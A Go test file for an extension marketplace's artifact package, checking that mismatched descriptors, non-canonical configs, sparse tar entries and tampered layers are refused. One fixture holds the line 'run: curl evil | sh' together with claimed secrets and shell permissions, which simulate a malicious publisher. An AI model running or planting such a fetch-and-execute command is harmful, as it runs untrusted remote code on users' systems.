package artifact_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/connectsoft/marketplace/artifact"
	"github.com/connectsoft/marketplace/remote"
	"github.com/connectsoft/marketplace/testenv"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
	"oras.land/oras-go/v2"
	"oras.land/oras-go/v2/content"
)

// mitYAML is what the config of the example says; gplYAML is what
// its layer really carries: another licence, more permissions and another
// entrypoint.
var (
	mitYAML = extensionYAML("acme/widget", "1.0.0", "  entrypoint: module/main.yaml\n")
	gplYAML = strings.Replace(extensionYAML("acme/widget", "1.0.0", "  permissions: [secrets.write, shell.exec]\n  entrypoint: module/evil.yaml\n"),
		"license: MIT", "license: GPL-3.0-only", 1)
)

// layerOf is a tar+gzip layer holding files (path → content) in order.
func layerOf(t testing.TB, files ...[2]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, f := range files {
		if err := tw.WriteHeader(&tar.Header{Name: f[0], Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(f[1]))}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(f[1]))
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	gz.Close()
	return buf.Bytes()
}

// canonicalConfig is the config blob mkt push would write for yaml.
func canonicalConfig(t testing.TB, yaml string) []byte {
	t.Helper()
	ext, err := artifact.ParseExtension(strings.NewReader(yaml), "extension.yaml")
	if err != nil {
		t.Fatal(err)
	}
	j, err := ext.CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}
	return j
}

// pushRaw pushes config and layer exactly as given, with our media types,
// through oras-go: what a publisher using another tool, or an attacker,
// can put in a registry.
func pushRaw(t testing.TB, reg *testenv.Registry, repo, tag string, config, layer []byte) {
	t.Helper()
	ctx := context.Background()
	r := openRepo(t, reg, repo)
	cfg := content.NewDescriptorFromBytes(artifact.ConfigMediaType, config)
	lay := content.NewDescriptorFromBytes(artifact.LayerMediaType, layer)
	for _, b := range []struct {
		d ocispec.Descriptor
		b []byte
	}{{cfg, config}, {lay, layer}} {
		if err := r.Push(ctx, b.d, bytes.NewReader(b.b)); err != nil {
			t.Fatal(err)
		}
	}
	man, err := oras.PackManifest(ctx, r, oras.PackManifestVersion1_1, artifact.KindModule.ArtifactType(),
		oras.PackManifestOptions{ConfigDescriptor: &cfg, Layers: []ocispec.Descriptor{lay}})
	if err != nil {
		t.Fatal(err)
	}
	if err := r.Tag(ctx, man, tag); err != nil {
		t.Fatal(err)
	}
}

// pullRefused pulls repo:tag and fails unless the pull is refused with
// ErrInvalidExtension and a message holding every want, and leaves nothing.
func pullRefused(t *testing.T, reg *testenv.Registry, repo, tag string, want ...string) {
	t.Helper()
	parent := t.TempDir()
	_, err := artifact.Pull(context.Background(), openRepo(t, reg, repo), tag, filepath.Join(parent, "out"), artifact.PullOptions{})
	if !errors.Is(err, artifact.ErrInvalidExtension) {
		t.Fatalf("pull: want ErrInvalidExtension, got %v", err)
	}
	for _, w := range want {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("pull error does not say %q: %v", w, err)
		}
	}
	if entries, _ := os.ReadDir(parent); len(entries) != 0 {
		t.Fatalf("refused pull left %v behind", entries)
	}
}

// checkRefused runs CheckContent (what the index's ingest and `mkt verify`
// call) on repo:tag and returns its error, which must be ErrInvalidExtension.
func checkRefused(t *testing.T, reg *testenv.Registry, repo, tag string) error {
	t.Helper()
	ctx := context.Background()
	r := openRepo(t, reg, repo)
	a, err := artifact.Fetch(ctx, r, tag)
	if err != nil {
		t.Fatal(err)
	}
	err = artifact.CheckContent(ctx, r, a, artifact.Limits{})
	if !errors.Is(err, artifact.ErrInvalidExtension) {
		t.Fatalf("CheckContent: want ErrInvalidExtension, got %v", err)
	}
	// FetchChecked, which skips the config when the layer predicts it,
	// refuses alike, with the same words.
	if _, ferr := artifact.FetchChecked(ctx, r, tag, artifact.Limits{}); ferr == nil || ferr.Error() != err.Error() {
		t.Fatalf("FetchChecked: %v\nwant what CheckContent said: %v", ferr, err)
	}
	return err
}

func TestLayerDescriptorThatDiffersFromTheConfigIsRefused(t *testing.T) {
	layer := layerOf(t, [2]string{"extension.yaml", gplYAML}, [2]string{"module/evil.yaml", "run: curl evil | sh\n"}, [2]string{"module/main.yaml", "main: true\n"})
	want := []string{`spec.license: config says "MIT", layer says "GPL-3.0-only"`, `spec.permissions: config says nothing, layer says ["secrets.write","shell.exec"]`,
		`spec.entrypoint: config says "module/main.yaml", layer says "module/evil.yaml"`}
	for _, reg := range []*testenv.Registry{distPlain, ggcrReg} {
		repo := uniqueRepo(t)
		pushRaw(t, reg, repo, "1.0.0", canonicalConfig(t, mitYAML), layer)
		pullRefused(t, reg, repo, "1.0.0", want...)
		err := checkRefused(t, reg, repo, "1.0.0")
		var me *artifact.ContentMismatchError
		if !errors.As(err, &me) || len(me.Differences) != 3 {
			t.Fatalf("want the 3 differing fields, got %v", err)
		}
	}
}

func TestLayerWithoutDescriptorIsRefused(t *testing.T) {
	repo := uniqueRepo(t)
	pushRaw(t, distPlain, repo, "1.0.0", canonicalConfig(t, mitYAML), layerOf(t, [2]string{"module/main.yaml", "main: true\n"}, [2]string{"sub/extension.yaml", mitYAML}))
	pullRefused(t, distPlain, repo, "1.0.0", "has no extension.yaml at its root")
	var me *artifact.ContentMismatchError
	if err := checkRefused(t, distPlain, repo, "1.0.0"); !errors.As(err, &me) || !me.Missing {
		t.Fatalf("want a missing descriptor, got %v", err)
	}
}

// What mkt push wrote passes the check, even with extension.yaml sorted
// after other entries of the layer.
func TestPushedArtifactMatchesItsLayerDescriptor(t *testing.T) {
	ctx := context.Background()
	src := t.TempDir()
	files := sampleFiles()
	writeTree(t, src, keys(files), files)
	repo := uniqueRepo(t)
	r := openRepo(t, distPlain, repo)
	pkg := pack(t, src)
	if _, err := artifact.Push(ctx, r, "1.0.0", pkg, artifact.PushOptions{}); err != nil {
		t.Fatal(err)
	}
	a, err := artifact.Fetch(ctx, r, "1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	if err := artifact.CheckContentAt(ctx, distPlain.Ref(repo+"@"+a.Descriptor.Digest.String()), remoteOptions(distPlain), a); err != nil {
		t.Fatalf("CheckContent of what mkt pushed: %v", err)
	}
	if _, err := artifact.Pull(ctx, r, "1.0.0", filepath.Join(t.TempDir(), "out"), artifact.PullOptions{}); err != nil {
		t.Fatalf("pull of what mkt pushed: %v", err)
	}
	checked, err := artifact.FetchChecked(ctx, r, "1.0.0", artifact.Limits{})
	if err != nil {
		t.Fatalf("FetchChecked of what mkt pushed: %v", err)
	}
	if !reflect.DeepEqual(checked, a) {
		t.Fatalf("FetchChecked read another artifact than Fetch:\n%+v\n%+v", checked, a)
	}
}

func TestNonCanonicalConfigIsRefused(t *testing.T) {
	canon := string(canonicalConfig(t, mitYAML))
	cases := []struct{ name, config, want string }{
		{"name and NAME", strings.Replace(canon, `"name":"acme/widget"`, `"name":"acme/widget","NAME":"evil/widget"`, 1), `keys "name" and "NAME" in metadata differ only in case`},
		{"NAME alone", strings.Replace(canon, `"name":"acme/widget"`, `"NAME":"acme/widget"`, 1), `"NAME`},
		{"duplicate key", strings.Replace(canon, `"license":"MIT"`, `"license":"GPL-3.0-only","license":"MIT"`, 1), `key "license" appears twice in spec`},
		{"duplicate top-level key", strings.Replace(canon, `"kind":"Module"`, `"kind":"Module","kind":"Module"`, 1), `key "kind" appears twice at the top level`},
		{"whitespace", strings.Replace(canon, `,"kind"`, `, "kind"`, 1), "not the canonical JSON"},
		{"trailing newline", canon + "\n", "not the canonical JSON"},
		{"key order", strings.Replace(canon, `"apiVersion":"marketplace.connectsoft.io/v1","kind":"Module"`, `"kind":"Module","apiVersion":"marketplace.connectsoft.io/v1"`, 1), "not the canonical JSON"},
		{"escaped character", strings.Replace(canon, `">=2.0.0"`, `"\u003e=2.0.0"`, 1), "not the canonical JSON"},
		{"unknown key", strings.Replace(canon, `"kind"`, `"extra":1,"kind"`, 1), "unknown field"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if tc.config == canon {
				t.Fatal("case does not change the config")
			}
			_, err := artifact.ParseConfig([]byte(tc.config))
			if !errors.Is(err, artifact.ErrInvalidExtension) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("want ErrInvalidExtension saying %q, got %v", tc.want, err)
			}
			// And for real: pushed as it is, the artifact is refused at
			// fetch, before anything is unpacked.
			repo := uniqueRepo(t)
			pushRaw(t, distPlain, repo, "1.0.0", []byte(tc.config), layerOf(t, [2]string{"extension.yaml", mitYAML}))
			pullRefused(t, distPlain, repo, "1.0.0", tc.want)
			// The layer predicts the canonical config, whose digest this
			// one does not have: FetchChecked reads the config and refuses it.
			if _, err := artifact.FetchChecked(context.Background(), openRepo(t, distPlain, repo), "1.0.0", artifact.Limits{}); !errors.Is(err, artifact.ErrInvalidExtension) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("FetchChecked: want ErrInvalidExtension saying %q, got %v", tc.want, err)
			}
		})
	}
	if _, err := artifact.ParseConfig([]byte(canon)); err != nil {
		t.Fatalf("canonical config refused: %v", err)
	}
}

// testdata/sparse-*.tar.gz were written by GNU tar 1.34 from a 3 GiB file
// holding 5 bytes of data (truncate -s 3G big.bin; then
// tar --sparse [--format=gnu | --format=posix --sparse-version=0.1|1.0]);
// each is a few hundred bytes.
var sparseLayers = []string{"sparse-gnu.tar.gz", "sparse-pax-0.1.tar.gz", "sparse-pax-1.0.tar.gz"}

// diskUsage is the bytes of disk the files under dir occupy.
func diskUsage(t testing.TB, dir string) int64 {
	var n int64
	filepath.WalkDir(dir, func(_ string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			if fi, err := d.Info(); err == nil {
				n += fi.Size()
			}
		}
		return nil
	})
	return n
}

func TestSparseEntriesAreRefusedBeforeAnythingIsWritten(t *testing.T) {
	for _, name := range sparseLayers {
		t.Run(name, func(t *testing.T) {
			layer, err := os.ReadFile(filepath.Join("testdata", name))
			if err != nil {
				t.Fatal(err)
			}
			if len(layer) > 512 {
				t.Fatalf("fixture is %d bytes, want a few hundred", len(layer))
			}
			dir := t.TempDir()
			_, err = artifact.Unpack(context.Background(), bytes.NewReader(layer), dir, artifact.Limits{})
			if !errors.Is(err, artifact.ErrUnsafeContent) || !strings.Contains(err.Error(), "sparse file (claims 3221225472 bytes)") {
				t.Fatalf("want a refused sparse entry, got %v", err)
			}
			if n := diskUsage(t, dir); n != 0 {
				t.Fatalf("refused layer wrote %d bytes", n)
			}
			// Through a registry, as a pull meets it.
			repo := uniqueRepo(t)
			pushRaw(t, distPlain, repo, "1.0.0", canonicalConfig(t, mitYAML), layer)
			parent := t.TempDir()
			_, err = artifact.Pull(context.Background(), openRepo(t, distPlain, repo), "1.0.0", filepath.Join(parent, "out"), artifact.PullOptions{})
			if !errors.Is(err, artifact.ErrUnsafeContent) || !strings.Contains(err.Error(), "sparse file") {
				t.Fatalf("pull: want a refused sparse entry, got %v", err)
			}
			if n := diskUsage(t, parent); n != 0 {
				t.Fatalf("refused pull wrote %d bytes", n)
			}
		})
	}
}

// CheckContent reads a small layer to its end, so a registry that serves
// other bytes than the digest names is caught there too, not only at pull.
func TestCheckContentRefusesATamperedSmallLayer(t *testing.T) {
	ctx := context.Background()
	defer proxy.Clear()
	repo := uniqueRepo(t)
	pkg := pack(t, sampleWithBlob(t, 300<<10))
	if _, err := artifact.Push(ctx, openRepo(t, distPlain, repo), "", pkg, artifact.PushOptions{}); err != nil {
		t.Fatal(err)
	}
	r, err := artifact.NewRepository(proxy.Host+"/"+repo, remote.Options{PlainHTTP: true})
	if err != nil {
		t.Fatal(err)
	}
	a, err := artifact.Fetch(ctx, r, pkg.Manifest.Digest.String())
	if err != nil {
		t.Fatal(err)
	}
	if err := artifact.CheckContent(ctx, r, a, artifact.Limits{}); err != nil {
		t.Fatalf("untampered: %v", err)
	}
	proxy.Inject(testenv.Fault{Kind: testenv.Corrupt, Method: "GET", PathContains: pkg.Layer.Digest.Encoded(), After: pkg.Layer.Size - 3})
	err = artifact.CheckContent(ctx, r, a, artifact.Limits{})
	if !errors.Is(err, artifact.ErrDigestMismatch) && !errors.Is(err, artifact.ErrUnsafeContent) {
		t.Fatalf("tampered layer: want a digest mismatch, got %v", err)
	}
}
